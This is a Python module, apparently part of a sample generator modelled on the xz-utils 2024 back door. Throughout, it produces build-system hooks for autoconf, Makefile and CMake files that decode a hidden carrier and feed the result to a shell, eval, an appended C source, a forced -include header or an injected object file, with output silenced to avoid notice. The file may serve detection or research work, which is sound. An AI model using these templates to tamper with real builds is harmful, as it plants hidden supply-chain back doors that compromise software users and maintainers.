"""Where the `rel-build-tampering` machinery lives: for each host (m4 macro, configure, aclocal.m4,
Makefile.in, build-aux script, CMakeLists.txt, cmake module, tests/CMakeLists.txt, Makefile,
hand-written configure) the hook snippets that run a decoding chain and feed its output to a sink.

Sinks: sh (pipe to a shell), eval, patch-source (decoded C appended to / compiled as a source),
force-include (decoded C forced into every compile with -include), inject-object (decoded ELF
object added to the library), cmake-include (decoded CMake code include()d).

Written blind: from public write-ups of the xz-utils 2024 back door and similar cases only.
"""
from __future__ import annotations

import random

from .common import word

# host -> (build system or None for any, files that carry the machinery, sinks)
HOSTS = {
    "m4-macro": ("autotools", ["sh", "eval", "patch-source", "force-include"]),
    "configure": ("autotools", ["sh", "eval", "patch-source", "force-include", "inject-object"]),
    "aclocal": ("autotools", ["sh", "eval", "patch-source", "force-include"]),
    "makefile-in": ("autotools", ["sh", "inject-object", "patch-source"]),
    "build-aux": (None, ["sh", "eval", "patch-source"]),
    "cmakelists": ("cmake", ["sh", "cmake-include", "inject-object", "patch-source"]),
    "cmake-module": ("cmake", ["sh", "cmake-include", "force-include"]),
    "tests-cmake": ("cmake", ["sh", "cmake-include", "inject-object", "patch-source"]),
    "makefile": ("make", ["sh", "inject-object", "patch-source"]),
    "hand-configure": ("make", ["sh", "eval", "patch-source", "force-include"]),
}


def payload_kind(sink: str) -> str:
    """What the chain must decode to for this sink: shell, cmake, c or object."""
    return {"sh": "shell", "eval": "shell", "cmake-include": "cmake", "inject-object": "object"}.get(sink, "c")


def m4_quote(s: str) -> str:
    """Shell text inside an m4 macro body: brackets become autoconf quadrigraphs."""
    for bad in ("$1", "$2", "$#", "$*", "$@"):
        assert bad not in s, f"m4-unsafe {bad} in {s!r}"
    return s.replace("[", "@<:@").replace("]", "@:>@")


def mk_escape(s: str, recipe: bool) -> str:
    s = s.replace("$", "$$")
    return s if recipe else s.replace("#", "\\#")


def _var(rng: random.Random, prefix: str) -> str:
    return f"{prefix}{word(rng, (1, 2))}_{rng.choice(['map', 'cfg', 'state', 'cmd', 'probe', 'res'])}"


def shell_snippet(rng: random.Random, pipe: str, carrier_expr: str, sink: str, *, srcdir: str,
                  target: str, gen: str, fn: str, indent: str = "", vprefix: str = "gl_") -> str:
    """Shell lines (configure, m4 body, build-aux script) running `pipe` on the carrier."""
    fvar = _var(rng, vprefix)
    lines = [f'{fvar}="{carrier_expr}"']
    p = pipe.replace("@F@", f'"${fvar}"')
    stored = "'" not in p and rng.random() < 0.6
    if stored:   # xz-like: the pipeline is kept in a variable and run through eval
        cvar = _var(rng, vprefix)
        lines.append(f"{cvar}='{p}'")
        run = f"eval ${cvar}"
    else:
        run = p
    if sink == "sh":
        lines.append(f'if test -r "${fvar}"; then')
        lines.append(f"  {run} | ${{SHELL-/bin/sh}} 2>/dev/null" if rng.random() < 0.5 else f"  ({run}) | sh >/dev/null 2>&1")
        lines.append("fi")
    elif sink == "eval":
        ovar = _var(rng, vprefix)
        lines.append(f'test -r "${fvar}" && {ovar}=`{run}` && eval "${ovar}"' if not stored else
                     f'{ovar}=`{run}` 2>/dev/null\neval "${ovar}" 2>/dev/null || :')
    elif sink == "patch-source":
        lines.append(f'if test -r "${fvar}" && ! grep -q {fn} "{srcdir}/{target}" 2>/dev/null; then')
        lines.append(f'  {run} >> "{srcdir}/{target}"')
        lines.append("fi")
    elif sink == "force-include":
        lines.append(f"test -d src/.deps || mkdir -p src/.deps")
        lines.append(f'if {run} > src/.deps/{gen}.h && test -s src/.deps/{gen}.h; then')
        lines.append(f'  CFLAGS="$CFLAGS -include `pwd`/src/.deps/{gen}.h"')
        lines.append("fi")
    elif sink == "inject-object":
        lib = target   # the Makefile variable holding the archive's extra objects
        lines.append("test -d src/.deps || mkdir -p src/.deps")
        lines.append(f'if {run} > src/.deps/{gen}.o 2>/dev/null; then')
        lines.append(f"  sed 's|^\\({lib}_LIBADD =\\).*|\\1 src/.deps/{gen}.o|' Makefile > Makefile.tmp && mv -f Makefile.tmp Makefile")
        lines.append("fi")
    else:
        raise ValueError(sink)
    return "\n".join(indent + ln if ln else ln for ln in "\n".join(lines).split("\n"))


def make_hooks(rng: random.Random, pipe: str, carrier_expr: str, sink: str, *, plain: bool, lib_var: str,
               target: str, gen: str, fn: str) -> tuple[str, str]:
    """(variables, rules) for Makefile.in (plain=False) or a plain Makefile (plain=True)."""
    p_rec = mk_escape(pipe, recipe=True).replace("@F@", carrier_expr)
    p_var = mk_escape(pipe, recipe=False).replace("@F@", carrier_expr)
    at = "@" if plain else "$(AM_V_GEN)"
    objdir = "src/" if plain else "src/.deps/"
    if sink == "sh":
        if rng.random() < 0.5:
            v = rng.choice(["CRC_FEATURES", "am__cpu_probe", "HOST_FEATURES", "TESTVEC_STATE", "am__tune"])
            return f"{v} := $(shell {p_var} | $(SHELL) 2>/dev/null)", ""
        stamp = f"{objdir}.{gen}.stamp"
        vars_ = (f"$(LIBOBJS): {stamp}" if plain else f"BUILT_SOURCES += {stamp}")
        rules = f"{stamp}: {carrier_expr}\n\t{at}{p_rec} | $(SHELL) >/dev/null 2>&1; touch $@"
        return (vars_ if not plain else ""), (rules + ("\n" + vars_ if plain else ""))
    if sink == "inject-object":
        obj = f"{objdir}{gen}.o" if not plain else f"src/.{gen}.o"
        if plain:
            vars_ = f"LIBOBJS += {obj}"
        else:
            vars_ = f"{lib_var}_LIBADD = {obj}\n{lib_var}_DEPENDENCIES = {obj}"
        rules = f"{obj}: {carrier_expr}\n\t{at}{p_rec} > $@"
        return vars_, rules
    if sink == "patch-source":
        if plain:
            vars_ = f"LIBOBJS += src/{gen}.o"
        else:
            vars_ = f"am__objects_1 = src/crc32.$(OBJEXT) src/codec.$(OBJEXT) src/{gen}.$(OBJEXT)"
        rules = f"src/{gen}.c: {carrier_expr}\n\t{at}{p_rec} > $@"
        return vars_, rules
    raise ValueError(sink)


def cmake_snippets(rng: random.Random, pipe: str, carrier_expr: str, sink: str, *, lib: str, gen: str
                   ) -> tuple[str, str]:
    """(configure-time part, part after the library target exists) for a CMake host."""
    p = pipe.replace("@F@", '"$0"')
    sh = f'execute_process(COMMAND sh -c [=[{p}{" | sh" if sink == "sh" else ""}]=] "{carrier_expr}"'
    if sink == "sh":
        return sh + '\n  WORKING_DIRECTORY "${PROJECT_SOURCE_DIR}" OUTPUT_QUIET ERROR_QUIET)', ""
    if sink == "cmake-include":
        out = f"${{PROJECT_BINARY_DIR}}/CMakeFiles/{gen}.cmake"
        return (sh + f'\n  OUTPUT_FILE "{out}" ERROR_QUIET)\ninclude("{out}" OPTIONAL)'), ""
    if sink == "force-include":
        out = f"${{PROJECT_BINARY_DIR}}/CMakeFiles/{gen}.h"
        return (sh + f'\n  OUTPUT_FILE "{out}" ERROR_QUIET RESULT_VARIABLE _{gen}_rc)\n'
                f'if(_{gen}_rc EQUAL 0)\n  string(APPEND CMAKE_C_FLAGS " -include {out}")\nendif()'), ""
    if sink == "patch-source":
        out = f"${{PROJECT_BINARY_DIR}}/{gen}.c"
        return (sh + f'\n  OUTPUT_FILE "{out}" ERROR_QUIET)'), f'target_sources({lib} PRIVATE "{out}")'
    if sink == "inject-object":
        out = f"${{PROJECT_BINARY_DIR}}/CMakeFiles/{gen}.o"
        return (sh + f'\n  OUTPUT_FILE "{out}" ERROR_QUIET)'), (
            f'set_source_files_properties("{out}" PROPERTIES EXTERNAL_OBJECT TRUE GENERATED TRUE)\n'
            f'target_sources({lib} PRIVATE "{out}")')
    raise ValueError(sink)
